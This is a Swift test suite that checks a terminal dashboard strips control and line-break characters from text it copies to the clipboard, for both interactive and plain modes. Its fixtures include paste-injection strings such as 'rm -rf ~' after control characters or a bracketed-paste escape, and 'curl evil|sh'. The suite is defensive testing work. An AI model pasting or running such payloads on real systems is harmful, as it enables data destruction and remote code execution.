import Foundation
import TestSupport
import Testing

/// What copying sends, where the keys are hostile.
@Suite("Hostile text for the clipboard", .serialized, .timeLimit(.minutes(5)))
struct HostileClipboardTests {
  /// Values that do harm where they are pasted, those listed and as many by a grammar.
  private static func values(_ seed: UInt64) -> [String] {
    var grammar = HostileGrammar(seed: seed)
    let listed =
      HostileText.controls.map { "x\($0)rm -rf ~" } + HostileText.attacks + [
        "harmless\ncurl evil|sh\n", "x\u{1B}[201~\nrm -rf ~\n", "harmless\nGoodbye.\nCommand: ", "safe name",
        "caf\u{E9} \u{4E2D}", "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} \u{2764}\u{FE0F}",
        "^[", "<U+001B>",
      ]
    return listed + (0..<listed.count).map { _ in "g" + grammar.name() }
  }

  private static func record(_ number: Int, _ text: String) -> String {
    let value = HostileText.json(text)
    return "{\"id\":\(HostileText.json("id\(number)" + text)),\"name\":\(value),\"created_date\":\(value),"
      + "\"last_four_digits\":\(value),\"creator_id\":\(value),\"restricted\":true,\"permissions\":[\"calls.view\",\(value)]}"
  }

  /// Scalars of the categories Cc and Cf, and what breaks lines.
  private static func violations(_ text: String, allowing joiner: Unicode.Scalar? = nil) -> [String] {
    text.unicodeScalars.filter { scalar in
      if scalar == joiner { return false }
      switch scalar.properties.generalCategory {
      case .control, .format, .lineSeparator, .paragraphSeparator: return true
      default: return false
      }
    }.map { String($0.value, radix: 16) }
  }

  @Test("Copied text has no control character, and the message shows what differs", .tags(.s1))
  func dashboard() throws {
    let seed = HostileGrammar.newSeed()
    let values = Self.values(seed)
    let file = try HostileKeyFile(values.enumerated().map { Self.record($0, $1) })
    let session = try Dashboard.open(file.path, columns: 140, rows: 30)
    var expected = 0
    var copies = 0
    func copied(_ field: String) throws -> String {
      try session.send(":copy \(field)\r")
      expected += 1
      try session.wait(for: "copy \(expected) (seed \(seed))", timeout: .seconds(20)) {
        // Each ends with BEL, which nothing else sends.
        session.rawBytes.count { $0 == 0x07 } >= expected
      }
      #expect(session.systemCommands.count == expected)
      let command = try #require(session.systemCommands.last)
      #expect(command.hasPrefix("52;c;"))
      let data = try #require(Data(base64Encoded: String(command.dropFirst(5))))
      copies += 1
      return try #require(String(data: data, encoding: .utf8))
    }
    for (number, value) in values.enumerated() where number.isMultiple(of: 3) || number < 4 {
      try session.send(":go \(number + 1)\r")
      for (field, original) in [
        ("name", value), ("id", "id\(number)" + value), ("creator", value), ("last-four", value),
      ] where !original.isEmpty {
        let text = try copied(field)
        #expect(Self.violations(text).isEmpty, "seed \(seed), \(field) of \(value.debugDescription): \(text)")
        let isSafe =
          original.utf8.allSatisfy { (0x20...0x7E).contains($0) } && !original.contains("<U+")
          && !original.contains("(+")
        if isSafe { #expect(text == original) }
      }
      let row = try copied("row")
      #expect(Self.violations(row).isEmpty, "seed \(seed)")
      let json = try copied("json")
      #expect(Self.violations(json).isEmpty, "seed \(seed): \(json)")
      let key = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
      let name = try #require(key["name"] as? String)
      #expect(name.unicodeScalars.elementsEqual(value.unicodeScalars), "seed \(seed): \(value.debugDescription)")
    }
    // A name with a line break; then one that is safe.
    for (value, note) in [("harmless\ncurl evil|sh\n", true), ("safe name", false)] {
      let number = try #require(values.firstIndex(of: value))
      try session.send(":go \(number + 1)\r:copy name\r")
      expected += 1
      try session.waitUntil("the message (seed \(seed))", timeout: .seconds(20)) { screen in
        session.systemCommands.count >= expected
          && screen.contains {
            $0.contains("sent to the terminal's clipboard") && $0.contains("copied as shown") == note
          }
      }
    }
    try session.send("q")
    _ = try session.waitForExit()
    print("figure S1: \(copies) copies of hostile keys in the dashboard, 0 of C0, C1 and Cf (seed \(seed))")
  }

  @Test("Plain mode's copy of a field is one line, and no line is the name's own", .tags(.s1))
  func plain() async throws {
    let seed = HostileGrammar.newSeed()
    let values = Self.values(seed)
    let file = try HostileKeyFile(values.enumerated().map { Self.record($0, $1) })
    let goes = values.indices.map { "go \($0 + 1)\n" }
    func lines(_ script: String) async throws -> [String] {
      // The last key first, so that all are loaded.
      try ("last\n" + script + "quit\n").write(toFile: file.file("script"), atomically: false, encoding: .utf8)
      let run = try await ProgramRun(["--from", file.path, "--plain"], inputPath: file.file("script"))
      #expect(run.errors.isEmpty, "\(run.errors)")
      return run.output.components(separatedBy: "\n")
    }
    let without = try await lines(goes.joined())
    for field in ["name", "id", "creator", "last-four", "json"] {
      let with = try await lines(goes.map { $0 + "copy \(field)\n" }.joined())
      #expect(with.count == without.count + values.count, "seed \(seed), \(field)")
      // Other lines show pictures as they are.
      #expect(with.allSatisfy { Self.violations($0, allowing: "\u{200D}").isEmpty }, "seed \(seed), \(field)")
      #expect(with.filter { $0 == "Goodbye." }.count == 1)
      guard field == "json" else { continue }
      let names = try with.filter { $0.hasPrefix("{") }.map { line in
        try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])["name"] as? String
      }
      #expect(names.count == values.count)
      for (name, value) in zip(names, values) {
        let isExact = name?.unicodeScalars.elementsEqual(value.unicodeScalars) == true
        #expect(isExact, "seed \(seed): \(name.debugDescription) for \(value.debugDescription)")
      }
    }
    print("figure S1: \(values.count * 5) copies in plain mode, one line each (seed \(seed))")
  }
}
